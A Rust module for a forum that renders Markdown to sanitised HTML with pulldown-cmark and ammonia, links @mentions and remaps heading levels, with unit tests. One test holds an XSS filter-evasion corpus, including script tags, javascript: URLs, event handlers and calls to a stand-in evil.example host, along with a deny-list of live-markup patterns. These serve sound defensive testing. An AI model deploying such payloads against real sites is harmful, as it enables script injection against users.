//! Markdown to safe HTML: `pulldown-cmark` parses, `ammonia` sanitises against a
//! small allowlist. Posts store both the source and this output.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{CowStr, Event, HeadingLevel, Options, Parser, Tag, TagEnd, TextMergeStream};

/// The tags a post may contain.
pub(crate) const ALLOWED_TAGS: [&str; 17] = [
    "p",
    "br",
    "a",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
];

/// Relative links survive only when they point at a member's profile (mentions).
fn profile_links_only(url: &str) -> Option<Cow<'_, str>> {
    let handle = url.strip_prefix("/u/")?;
    let valid = !handle.is_empty()
        && handle
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-');
    valid.then_some(Cow::Borrowed(url))
}

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(ALLOWED_TAGS.into_iter().collect())
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .generic_attributes(HashSet::new())
        .allowed_classes(HashMap::from([("a", HashSet::from(["mention"]))]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Custom(Box::new(profile_links_only)))
        .link_rel(Some("nofollow noopener ugc"));
    builder
});

/// Sanitises HTML against the post allowlist (also used on its own in tests).
pub fn sanitise(html: &str) -> String {
    SANITISER.clean(html).to_string()
}

fn is_handle_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_' || c == '-'
}

/// Finds `@handle` mentions in one run of plain text: (start, end, handle) with
/// `start` at the `@`. An `@` inside a word (an e-mail address) is not a mention.
fn find_mentions(text: &str) -> Vec<(usize, usize, String)> {
    let mut found = Vec::new();
    let mut previous: Option<char> = None;
    for (i, c) in text.char_indices() {
        if c == '@' && !previous.is_some_and(|p| p.is_alphanumeric() || p == '_') {
            let rest = &text[i + 1..];
            let len = rest.find(|ch: char| !is_handle_char(ch)).unwrap_or(rest.len());
            let handle = rest[..len].trim_end_matches(['-', '_']);
            let count = handle.chars().count();
            if (3..=30).contains(&count)
                && handle.starts_with(|ch: char| ch.is_ascii_alphanumeric())
            {
                found.push((i, i + 1 + handle.len(), handle.to_ascii_lowercase()));
            }
        }
        previous = Some(c);
    }
    found
}

/// Walks the Markdown events that hold prose (outside code and links).
fn prose_events(source: &str) -> impl Iterator<Item = (bool, Event<'_>)> {
    let mut in_code = 0usize;
    let mut in_link = 0usize;
    TextMergeStream::new(Parser::new_ext(source, options())).map(move |event| {
        match &event {
            Event::Start(Tag::CodeBlock(_)) => in_code += 1,
            Event::End(TagEnd::CodeBlock) => in_code = in_code.saturating_sub(1),
            Event::Start(Tag::Link { .. }) => in_link += 1,
            Event::End(TagEnd::Link) => in_link = in_link.saturating_sub(1),
            _ => {}
        }
        (in_code == 0 && in_link == 0, event)
    })
}

fn options() -> Options {
    Options::ENABLE_STRIKETHROUGH
}

/// The distinct handles a post mentions, in the order they first appear
/// (mentions inside code or links do not count).
pub fn mentions(source: &str) -> Vec<String> {
    let mut seen = Vec::new();
    for (prose, event) in prose_events(source) {
        if let (true, Event::Text(text)) = (prose, &event) {
            for (_, _, handle) in find_mentions(text) {
                if !seen.contains(&handle) {
                    seen.push(handle);
                }
            }
        }
    }
    seen
}

/// The outline a piece of writing's headings keep: its highest heading (whatever its
/// level in the source) becomes an `h3`, under the page's `h1` and the `h2` its
/// content sits in, and each step below it one level more, down to `h6`. So a guide
/// written with `##` and a post written with `#` both start at `h3`, and no level is
/// skipped.
struct Outline {
    top: usize,
}

impl Outline {
    fn of(source: &str) -> Self {
        let top = Parser::new_ext(source, options())
            .filter_map(|event| match event {
                Event::Start(Tag::Heading { level, .. }) => Some(level as usize),
                _ => None,
            })
            .min()
            .unwrap_or(1);
        Self { top }
    }

    fn place(&self, level: HeadingLevel) -> HeadingLevel {
        let placed = (level as usize).saturating_sub(self.top) + 3;
        HeadingLevel::try_from(placed.min(6)).unwrap_or(HeadingLevel::H6)
    }
}

/// Renders Markdown to sanitised HTML. Mentions of handles for which `linkable`
/// answers true become links to their profiles.
pub fn render(source: &str, linkable: &dyn Fn(&str) -> bool) -> String {
    let outline = Outline::of(source);
    let mut events: Vec<Event<'_>> = Vec::new();
    for (prose, event) in prose_events(source) {
        match event {
            Event::Text(text) if prose => link_mentions(&text, linkable, &mut events),
            Event::SoftBreak => events.push(Event::HardBreak),
            Event::Start(Tag::Heading { level, id, classes, attrs }) => {
                events.push(Event::Start(Tag::Heading {
                    level: outline.place(level),
                    id,
                    classes,
                    attrs,
                }))
            }
            Event::End(TagEnd::Heading(level)) => {
                events.push(Event::End(TagEnd::Heading(outline.place(level))));
            }
            other => events.push(other),
        }
    }
    let mut html = String::with_capacity(source.len() + source.len() / 4);
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    sanitise(&html)
}

fn link_mentions<'a>(text: &str, linkable: &dyn Fn(&str) -> bool, out: &mut Vec<Event<'a>>) {
    let mut last = 0;
    for (start, end, handle) in find_mentions(text) {
        if !linkable(&handle) {
            continue;
        }
        if start > last {
            out.push(Event::Text(CowStr::from(text[last..start].to_owned())));
        }
        out.push(Event::InlineHtml(CowStr::from(format!(
            "<a class=\"mention\" href=\"/u/{handle}\">@{handle}</a>"
        ))));
        last = end;
    }
    if last < text.len() {
        out.push(Event::Text(CowStr::from(text[last..].to_owned())));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plain(source: &str) -> String {
        render(source, &|_| false)
    }

    #[test]
    fn renders_the_allowed_markdown() {
        let html = plain("# Title\n\n**bold** _em_ ~~gone~~ `code`\n\n> quote\n\n- a\n- b\n\n---");
        assert!(html.contains("<h3>Title</h3>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<em>em</em>"));
        assert!(html.contains("<del>gone</del>"));
        assert!(html.contains("<code>code</code>"));
        assert!(html.contains("<blockquote>"));
        assert!(html.contains("<li>a</li>"));
        assert!(html.contains("<hr>"));
    }

    #[test]
    fn the_highest_heading_becomes_h3_and_no_level_is_skipped() {
        let guide = plain("## Before you go\n\n#### Kit\n\n### On the day\n\n###### Small print");
        assert!(guide.contains("<h3>Before you go</h3>"), "{guide}");
        assert!(guide.contains("<h5>Kit</h5>"), "{guide}");
        assert!(guide.contains("<h4>On the day</h4>"), "{guide}");
        assert!(guide.contains("<h6>Small print</h6>"), "{guide}");
        let deep = plain("# A\n\n## B\n\n### C\n\n#### D\n\n##### E");
        assert!(deep.contains("<h6>D</h6>") && deep.contains("<h6>E</h6>"), "{deep}");
        assert!(!plain("Only prose.").contains("<h"), "no heading appears from nothing");
    }

    #[test]
    fn links_get_rel_and_only_safe_schemes() {
        let html = plain("[site](https://example.org) [mail](mailto:a@example.org)");
        assert!(
            html.contains("<a href=\"https://example.org\" rel=\"nofollow noopener ugc\">site</a>"),
            "{html}"
        );
        assert!(html.contains("href=\"mailto:a@example.org\""));
        let html = plain("[x](ftp://example.org/file) [y](/signout) [z](../admin)");
        assert!(!html.contains("href"), "{html}");
    }

    #[test]
    fn line_breaks_are_kept() {
        assert_eq!(plain("one\ntwo"), "<p>one<br>\ntwo</p>\n");
    }

    #[test]
    fn mentions_are_found_outside_code_and_links() {
        let source = "Hi @Ada and @bob_k, mail me@example.org. `@code` [@linked](https://x.org)\n\n    @block\n\n@ada again @x";
        assert_eq!(mentions(source), vec!["ada".to_owned(), "bob_k".to_owned()]);
    }

    #[test]
    fn known_mentions_become_profile_links() {
        let html = render("thanks @ada and @ghost!", &|h| h == "ada");
        assert!(
            html.contains(
                "<a class=\"mention\" href=\"/u/ada\" rel=\"nofollow noopener ugc\">@ada</a>"
            ),
            "{html}"
        );
        assert!(html.contains("@ghost!"));
        assert!(!html.contains("/u/ghost"));
    }

    /// Hostile input from the OWASP filter-evasion cheat sheet and friends: none of it
    /// may survive as live markup.
    #[test]
    fn xss_corpus_is_neutralised() {
        let corpus = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<p onclick=\"alert(1)\">click</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<svg onload=alert(1)><circle r=10 /></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
            "<style>body{background:url(javascript:alert(1))}</style>",
            "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
            "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<details open ontoggle=alert(1)>",
            "<body onload=alert(1)>",
            "<!--<script>alert(1)</script>-->",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>script>alert(1)<</script>/script>",
            "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>",
            "<code onmouseover=alert(1)>x</code>",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/track.png)",
            "<img src=\"https://evil.example/track.png\">",
            "<a href=\"/u/ada/../../signout\">x</a>",
            "<a href=\"//evil.example\">x</a>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<template><script>alert(1)</script></template>",
        ];
        for payload in corpus {
            let html = plain(payload);
            let lower = html.to_lowercase();
            for live in [
                "<script",
                "<img",
                "<svg",
                "<math",
                "<iframe",
                "<object",
                "<embed",
                "<style",
                "<form",
                "<input",
                "<meta",
                "<base",
                "<link",
                "<details",
                "<body",
                "<noscript",
                "<template",
                "<div",
                "javascript:",
                "vbscript:",
                "data:",
                "onerror",
                "onload",
                "onclick",
                "onmouseover",
                "ontoggle",
                "style=",
                "evil.example",
            ] {
                // Text that merely mentions these words is escaped (`&lt;script`), never markup.
                let as_markup = lower.contains(live)
                    && (live.starts_with('<')
                        || lower
                            .split('<')
                            .skip(1)
                            .any(|tag| tag.split('>').next().is_some_and(|t| t.contains(live))));
                assert!(!as_markup, "{payload:?} left {live:?} live in {html:?}");
            }
        }
    }

    #[test]
    fn deeply_nested_markup_is_bounded_and_safe() {
        let nested = format!(
            "{}x{}",
            "<div><blockquote>".repeat(5_000),
            "</blockquote></div>".repeat(5_000)
        );
        let html = plain(&nested);
        assert!(!html.contains("<div"));
        let quotes = format!("{}deep", "> ".repeat(2_000));
        let html = plain(&quotes);
        assert!(html.contains("deep"));
        let lists = format!("{}x", "- ".repeat(2_000));
        assert!(plain(&lists).contains('x'));
    }

    #[test]
    fn only_allowlisted_tags_survive_raw_html() {
        let html = plain("<h1>big</h1><table><tr><td>cell</td></tr></table><span class=x>s</span>");
        assert!(!html.contains("<h1"));
        assert!(!html.contains("<table"));
        assert!(html.contains("cell"));
        assert!(!html.contains("class=\"x\""));
    }
}
